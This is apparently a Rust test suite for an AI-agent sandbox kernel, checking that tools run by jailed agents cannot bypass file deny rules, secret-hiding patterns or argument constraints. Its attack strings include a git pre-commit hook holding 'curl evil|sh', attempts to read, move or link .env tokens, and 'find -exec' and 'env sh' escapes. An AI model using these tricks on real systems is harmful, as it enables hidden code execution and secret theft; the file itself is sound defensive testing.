//! Tools can do no more than the agent: attacks from real jailed agents through `Exec`, as root
//! and under an unprivileged kernel. A tool's view of the workspace honours the agent's
//! `file_read` and `file_write` rules (deny rules and `deny_patterns` included), and
//! `commands` with `args`/`deny_args` holds programs that run other programs.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use agentos_kernel::recorder::RecordEvent;
use agentos_syscalls::Syscall;
use agentos_tests::{write_policy, TestKernel};

const READ_WS: &str = "  - name: ws-read\n    action: file_read\n    effect: allow\n    constraints:\n      paths: [\"/workspace/**\"]\n";
const WRITE_WS: &str = "  - name: ws-write\n    action: file_write\n    effect: allow\n    constraints:\n      paths: [\"/workspace/**\"]\n";

fn exec_rule(commands: &[&str]) -> String {
    let list: Vec<String> = commands.iter().map(|c| format!("\"{c}\"")).collect();
    format!(
        "  - name: tools\n    action: code_execution\n    effect: allow\n    constraints:\n      commands: [{}]\n",
        list.join(", ")
    )
}

/// A directory any kernel user may use (an unprivileged kernel runs as another uid).
fn open_dir(path: &Path) {
    std::fs::create_dir_all(path).expect("mkdir");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
}

fn file(path: &Path, text: &str) {
    std::fs::write(path, text).expect("write");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o666)).expect("chmod");
}

fn workspace(k: &TestKernel, name: &str) -> PathBuf {
    let ws = k.work.join(name);
    open_dir(&ws);
    ws
}

fn spawn(k: &TestKernel, policy: &Path, ws: &Path, args: &[&str]) -> u64 {
    let mut a = vec![
        "spawn",
        "--policy",
        policy.to_str().expect("utf-8"),
        "--workspace",
        ws.to_str().expect("utf-8"),
        "--",
        k.agent_bin.to_str().expect("utf-8"),
    ];
    a.extend_from_slice(args);
    k.ctl_ok(&a).trim().parse().expect("agent id")
}

/// One `Exec` (cwd `/workspace`) from a real agent; its answer line.
fn exec_line(k: &TestKernel, policy: &Path, ws: &Path, argv: &[&str]) -> String {
    let mut a = vec!["exec", "-", "-"];
    a.extend_from_slice(argv);
    let id = spawn(k, policy, ws, &a);
    let last = k.wait(id);
    assert_eq!(last["exit"]["code"], 0, "{last}");
    let log = k.ctl_ok(&["logs", &id.to_string()]);
    log.lines()
        .find(|l| l.starts_with("exec: ") || l.starts_with("refused: "))
        .unwrap_or_else(|| panic!("no answer in the log:\n{log}"))
        .to_string()
}

fn deny_hooks_then_write(k: &TestKernel) {
    let ws = workspace(k, "ws-hooks");
    open_dir(&ws.join(".git"));
    file(&ws.join(".git/config"), "[core]\n");
    open_dir(&ws.join("src"));
    let rules = format!(
        "{READ_WS}{WRITE_WS}  - name: no-hooks\n    action: file_write\n    effect: deny\n    constraints:\n      paths: [\"/workspace/.git/hooks/**\"]\n{}",
        exec_rule(&["/bin/sh"])
    );
    let policy = write_policy(&k.work, "tools-hooks", "strict", &[], &rules);
    let attack = "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit; \
        echo x >> .git/config; echo y > src/new; echo z > top; true";
    let line = exec_line(k, &policy, &ws, &["/bin/sh", "-c", attack]);
    assert!(line.starts_with("exec: status=0 "), "{line}");
    assert!(line.contains("Read-only file system"), "{line}");
    // Nothing under the denied path, nothing in its read-only ancestors…
    assert!(!ws.join(".git/hooks").exists(), "{line}");
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).expect("config"),
        "[core]\n"
    );
    assert!(!ws.join("top").exists(), "{line}");
    // …while a subtree where every write is allowed stays writable.
    assert_eq!(
        std::fs::read_to_string(ws.join("src/new")).expect("src/new"),
        "y\n"
    );
    // A hooks dir that exists at Exec time is no more writable.
    open_dir(&ws.join(".git/hooks"));
    let line = exec_line(
        k,
        &policy,
        &ws,
        &["/bin/sh", "-c", "echo evil > .git/hooks/pre-commit"],
    );
    assert!(!line.starts_with("exec: status=0 "), "{line}");
    assert!(!ws.join(".git/hooks/pre-commit").exists(), "{line}");
}

#[test]
fn a_tool_cannot_write_where_a_deny_rule_forbids() {
    deny_hooks_then_write(&TestKernel::start());
}

#[test]
fn a_tool_cannot_write_where_a_deny_rule_forbids_unprivileged() {
    deny_hooks_then_write(&TestKernel::start_unprivileged());
}

fn hidden_from_grep(k: &TestKernel) {
    let ws = workspace(k, "ws-secret");
    open_dir(&ws.join("secret/deep"));
    open_dir(&ws.join("src"));
    file(&ws.join("secret/deep/key"), "TOKEN-in-secret\n");
    file(&ws.join("app.env"), "TOKEN-in-env\n");
    file(&ws.join("src/ok.txt"), "TOKEN-visible\n");
    let rules = format!(
        "  - name: ws-read\n    action: file_read\n    effect: allow\n    constraints:\n      paths: [\"/workspace/**\"]\n      deny_patterns: ['\\.env$']\n  - name: no-secret\n    action: file_read\n    effect: deny\n    constraints:\n      paths: [\"/workspace/secret\", \"/workspace/secret/**\"]\n{}",
        exec_rule(&["/bin/grep", "/bin/cat"])
    );
    let policy = write_policy(&k.work, "tools-secret", "strict", &[], &rules);
    let grep = exec_line(k, &policy, &ws, &["/bin/grep", "-r", "TOKEN", "/workspace"]);
    assert!(grep.contains("TOKEN-visible"), "{grep}");
    assert!(!grep.contains("TOKEN-in-secret"), "{grep}");
    assert!(!grep.contains("TOKEN-in-env"), "{grep}");
    let cat = exec_line(k, &policy, &ws, &["/bin/cat", "/workspace/secret/deep/key"]);
    assert!(
        !cat.contains("TOKEN") && cat.contains("No such file"),
        "{cat}"
    );
    let env = exec_line(k, &policy, &ws, &["/bin/cat", "/workspace/app.env"]);
    assert!(
        !env.contains("TOKEN") && env.contains("stdout_len=0"),
        "{env}"
    );
    // A covered directory is no working directory either (told like one that does not exist).
    let id = spawn(
        k,
        &policy,
        &ws,
        &["exec", "-", "/workspace/secret/deep", "/bin/cat", "key"],
    );
    assert_eq!(k.wait(id)["exit"]["code"], 0);
    let log = k.ctl_ok(&["logs", &id.to_string()]);
    assert!(log.contains("refused: NotFound"), "{log}");
    assert!(!log.contains("TOKEN"), "{log}");
}

#[test]
fn a_tool_cannot_read_what_file_read_hides() {
    hidden_from_grep(&TestKernel::start());
}

#[test]
fn a_tool_cannot_read_what_file_read_hides_unprivileged() {
    hidden_from_grep(&TestKernel::start_unprivileged());
}

fn too_large(k: &TestKernel) {
    let ws = workspace(k, "ws-large");
    let n = agentos_userspace::launch::MAX_VIEW_ENTRIES + 1;
    for i in 0..n {
        file(&ws.join(format!("f{i}.env")), "s\n");
    }
    let rules = format!(
        "  - name: ws-read\n    action: file_read\n    effect: allow\n    constraints:\n      paths: [\"/workspace/**\"]\n      deny_patterns: ['\\.env$']\n{}",
        exec_rule(&["/bin/cat"])
    );
    let policy = write_policy(&k.work, "tools-large", "strict", &[], &rules);
    let line = exec_line(k, &policy, &ws, &["/bin/cat", "/workspace/f0.env"]);
    assert!(line.starts_with("refused: QuotaExceeded"), "{line}");
    assert!(line.contains("mounts"), "{line}");
}

#[test]
fn a_workspace_too_large_for_a_tool_view_is_refused() {
    too_large(&TestKernel::start());
}

#[test]
fn a_workspace_too_large_for_a_tool_view_is_refused_unprivileged() {
    too_large(&TestKernel::start_unprivileged());
}

/// The recorded decision on agent `id`'s `Exec` whose argv\[0\] is `program`.
fn exec_decision(k: &TestKernel, id: u64, program: &str) -> Option<(bool, String)> {
    k.records().into_iter().find_map(|r| match r.event {
        RecordEvent::Syscall {
            call: Syscall::Exec { argv, .. },
            decision,
            ..
        } if r.agent.map(|a| a.0) == Some(id) && argv[0] == program => {
            Some((decision.allowed, decision.reason))
        }
        _ => None,
    })
}

#[test]
fn argument_constraints_refuse_find_exec_env_and_sh_c() {
    let k = TestKernel::start();
    let ws = workspace(&k, "ws-args");
    file(&ws.join("f"), "hello\n");
    let rules = format!(
        "{READ_WS}  - name: find\n    action: code_execution\n    effect: allow\n    constraints:\n      commands: [find]\n      deny_args: [\"-exec*\", \"-ok*\", \"-delete\", \"-fprint*\"]\n  - name: env\n    action: code_execution\n    effect: allow\n    constraints:\n      commands: [env]\n      args: [\"--version\"]\n  - name: sh\n    action: code_execution\n    effect: allow\n    constraints:\n      commands: [/bin/sh]\n      args: [\"/workspace/*.sh\"]\n"
    );
    let policy = write_policy(&k.work, "tools-args", "strict", &[], &rules);
    // Within the constraint: allowed, and it runs.
    let ok = exec_line(&k, &policy, &ws, &["find", "/workspace", "-name", "f"]);
    assert!(
        ok.contains("status=0") && ok.contains("/workspace/f"),
        "{ok}"
    );
    // Outside: refused before anything runs (strict: the agent gets SIGPOLICY).
    for (argv, why) in [
        (
            &["find", "/workspace", "-exec", "/bin/sh", "-c", "id", ";"][..],
            "matches deny_args `-exec*`",
        ),
        (&["env", "/bin/sh", "-c", "id"][..], "matches none of args"),
        (&["/bin/sh", "-c", "id"][..], "matches none of args"),
        // One argument holding spaces is still one argument.
        (
            &["/bin/sh", "/workspace/x.sh -c id"][..],
            "matches none of args",
        ),
    ] {
        let mut a = vec!["exec-wait", "-", "-"];
        a.extend_from_slice(argv);
        let id = spawn(&k, &policy, &ws, &a);
        let last = k.wait(id);
        let log = k.ctl_ok(&["logs", &id.to_string()]);
        assert_eq!(last["exit"]["signal"], "SIGPOLICY", "{argv:?} {last} {log}");
        let (allowed, reason) = exec_decision(&k, id, argv[0]).expect("recorded");
        assert!(!allowed && reason.contains(why), "{argv:?}: {reason}");
    }
}

fn covers_hold(k: &TestKernel) {
    let ws = workspace(k, "ws-covers");
    open_dir(&ws.join("src"));
    file(&ws.join("app.env"), "TOKEN-in-env\n");
    file(&ws.join("src/b.env"), "TOKEN-in-src\n");
    // The whole workspace is writable for the tool, yet `*.env` may not be read.
    let rules = format!(
        "  - name: ws-read\n    action: file_read\n    effect: allow\n    constraints:\n      paths: [\"/workspace/**\"]\n      deny_patterns: ['\\.env$']\n{WRITE_WS}{}",
        exec_rule(&["/bin/sh"])
    );
    let policy = write_policy(&k.work, "tools-covers", "strict", &[], &rules);
    let attack = "cat app.env; mv app.env stolen1; ln app.env stolen2; cp app.env stolen3; \
        rm -f app.env; echo gone > app.env; mv src moved && cat moved/b.env; \
        cat stolen1 stolen2 stolen3 2>/dev/null; echo done";
    let line = exec_line(k, &policy, &ws, &["/bin/sh", "-c", attack]);
    assert!(line.contains("status=0") && line.contains("done"), "{line}");
    // A cover is a mount point (not moved or removed) on a read-only mount of its own.
    assert!(line.contains("Device or resource busy"), "{line}");
    assert!(line.contains("Read-only file system"), "{line}");
    assert!(!line.contains("TOKEN"), "{line}");
    assert_eq!(
        std::fs::read_to_string(ws.join("app.env")).expect("app.env"),
        "TOKEN-in-env\n"
    );
    // Moving a directory moves its covers with it.
    let moved = ["moved/b.env", "src/b.env"]
        .iter()
        .find_map(|p| std::fs::read_to_string(ws.join(p)).ok());
    assert_eq!(moved.as_deref(), Some("TOKEN-in-src\n"));
}

#[test]
fn a_cover_cannot_be_moved_linked_or_removed_by_the_tool() {
    covers_hold(&TestKernel::start());
}

#[test]
fn a_cover_cannot_be_moved_linked_or_removed_by_the_tool_unprivileged() {
    covers_hold(&TestKernel::start_unprivileged());
}
